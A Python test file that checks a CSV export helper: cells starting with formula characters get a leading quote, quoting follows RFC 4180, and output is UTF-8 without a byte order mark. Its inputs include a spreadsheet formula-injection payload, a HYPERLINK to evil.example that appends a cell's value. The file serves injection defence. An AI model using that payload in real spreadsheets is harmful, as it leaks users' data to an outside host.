"""CSV files for operators: RFC 4180 as spreadsheets read it, and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from cognito_reset.spreadsheet import csv_text, spreadsheet_cell


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("https://evil.example/?"&A2,"open")', '\'=HYPERLINK("https://evil.example/?"&A2,"open")'),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("alice", "alice"),
        ("bob@example.com", "bob@example.com"),  # '@' inside a cell starts nothing
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("", ""),
        (None, ""),
        (7, "7"),
        (-3, "'-3"),
        (True, "True"),
    ],
)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(value: object, written: str) -> None:
    assert spreadsheet_cell(value) == written


def test_a_table_is_crlf_csv_that_reads_back_cell_for_cell_with_formulas_quoted() -> None:
    rows: list[list[object]] = [
        [12, "alice", '=HYPERLINK("https://evil.example","x")', None],
        [None, "bob@example.com", "+1", "-2"],
        ["@SUM(A1)", 'say "hi", then\nleave', "plain", ""],
    ]

    text = csv_text(["line", "user", "reason", "detail"], iter(rows))

    assert text.startswith("line,user,reason,detail\r\n")
    assert text.endswith("\r\n")
    assert not text.startswith("\ufeff")
    assert read_back(text) == [
        ["line", "user", "reason", "detail"],
        ["12", "alice", '\'=HYPERLINK("https://evil.example","x")', ""],
        ["", "bob@example.com", "'+1", "'-2"],
        ["'@SUM(A1)", 'say "hi", then\nleave', "plain", ""],
    ]
    # RFC 4180: a cell with a comma, a quote or a line break is quoted, its quotes doubled.
    assert '"say ""hi"", then\nleave"' in text


def test_a_header_is_neutralised_too_and_an_empty_table_is_its_header() -> None:
    assert csv_text(["-line", "user"], []) == "'-line,user\r\n"


def test_the_text_is_plain_utf8_without_a_byte_order_mark() -> None:
    text = csv_text(["user"], [["jörg"]])

    assert text.encode("utf-8") == "user\r\njörg\r\n".encode()
